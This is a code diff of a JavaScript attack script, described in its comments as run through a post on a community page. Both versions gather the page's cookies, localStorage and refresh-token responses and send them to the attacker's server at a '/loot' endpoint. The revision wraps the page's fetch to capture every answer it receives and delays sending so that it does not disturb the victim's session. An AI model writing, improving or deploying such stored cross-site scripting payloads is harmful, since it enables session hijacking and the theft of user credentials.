@@ -1,16 +1,17 @@
-// The attacker's script, run by a post in the community's page: sends away whatever a script can reach.
-(async () => {
-  const site = new URL(document.currentScript?.src ?? globalThis.attacker).origin;
+// The attacker's script, run by a post before the page's own: listens to the answers that the page gets, and sends away whatever a script can reach.
+{
+  const site = new URL(document.currentScript.src).origin;
+  const send = globalThis.fetch;
   const answers = {};
-  const ask = async (method, path, headers, body) => {
-    const answer = await fetch(path, { method, headers, body });
-    if (answer.ok) Object.assign(answers, await answer.json());
+  globalThis.fetch = async (...asked) => {
+    const answer = await send(...asked);
+    await answer.clone().json().then((said) => Object.assign(answers, said), () => {});
+    return answer;
   };
-  await ask("GET", "/csrf");
-  const stored = localStorage.getItem("refresh");
-  const json = stored ? { "content-type": "application/json" } : {};
-  const csrf = answers.csrf_token ? { "x-csrf-token": answers.csrf_token } : {};
-  await ask("POST", "/refresh", { ...json, ...csrf }, stored ? JSON.stringify({ refresh_token: stored }) : undefined);
-  const loot = { cookie: document.cookie, storage: { ...localStorage }, answers };
-  await fetch(`${site}/loot`, { method: "POST", mode: "no-cors", body: JSON.stringify(loot) });
-})();
+  // Asking for itself would race the page's own refresh and, where refresh tokens rotate, end the session. The page has settled once it says who one is.
+  new MutationObserver((_, observer) => {
+    observer.disconnect();
+    const loot = { cookie: document.cookie, storage: { ...localStorage }, answers };
+    send(`${site}/loot`, { method: "POST", mode: "no-cors", body: JSON.stringify(loot) });
+  }).observe(document.querySelector("#who"), { childList: true });
+}
